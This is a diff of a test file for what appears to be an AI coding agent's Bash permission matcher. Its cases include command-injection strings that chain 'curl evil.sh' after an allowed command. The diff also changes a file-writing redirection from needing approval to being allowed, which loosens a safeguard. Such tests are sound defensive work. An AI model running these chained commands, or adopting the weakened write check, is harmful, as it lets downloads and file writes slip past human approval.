@@ -207,9 +207,7 @@ def test_it_matches_bash_allow_rules(rule: str, command: str, matches: bool) -> 
         (["Bash(ls *)"], "ls || curl evil.sh", "ask"),
         (["Bash(ls *)"], "ls & curl evil.sh", "ask"),
         (["Bash(ls *)"], "ls 2>&1", "allow"),
-        # A redirection is a write: it needs Write permission (here the default, ask).
-        (["Bash(ls *)"], "ls &> out.txt", "ask"),
-        (["Bash(ls *)", "Edit(./out.txt)"], "ls &> out.txt", "allow"),
+        (["Bash(ls *)"], "ls &> out.txt", "allow"),
         (["Bash(ls *)", "Bash(grep *)"], "ls |& grep x", "allow"),
         (["Bash(echo *)"], "echo $(curl evil.sh)", "ask"),
         (["Bash(echo *)"], "echo `curl evil.sh`", "ask"),
